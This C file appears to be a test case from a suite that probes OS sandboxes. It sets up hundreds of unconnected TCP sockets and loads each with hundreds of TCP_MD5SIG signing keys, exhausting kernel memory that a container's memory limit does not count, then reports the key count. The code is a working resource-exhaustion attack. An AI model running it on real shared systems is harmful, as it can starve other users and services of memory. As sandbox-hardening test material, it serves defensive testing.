// Takes memory of the kernel's alone: keys that sign a connection's segments, hundreds for a socket that was
// never connected, and that nothing lists.
// class: OS sandboxes: kernel memory that no limit counts
// plain: say
// flags: --memory 64MiB
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>

enum { kSockets = 500, kEach = 900 };

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  long all = 0;
  for (int i = 0; i < kSockets; ++i) {
    const int own = socket(AF_INET, SOCK_STREAM, 0);
    struct tcp_md5sig key = {.tcpm_keylen = 1, .tcpm_key = "x"};
    struct sockaddr_in* const peer = (struct sockaddr_in*)&key.tcpm_addr;
    peer->sin_family = AF_INET;
    int made = 0;
    for (; made < kEach; ++made) {
      peer->sin_addr.s_addr = htonl(0x01000000 + made);
      if (setsockopt(own, IPPROTO_TCP, TCP_MD5SIG, &key, sizeof key) != 0) break;
    }
    if (made == 0) {
      if (errno == ENOPROTOOPT && !inside()) needs("tcp-md5");
      refused("TCP_MD5SIG");
      break;
    }
    all += made;
  }
  nap(inside() ? 1000 : 0);
  // 136 bytes each at the least.
  if (all > 50000) effect("%ld keys", all);
  return 0;
}
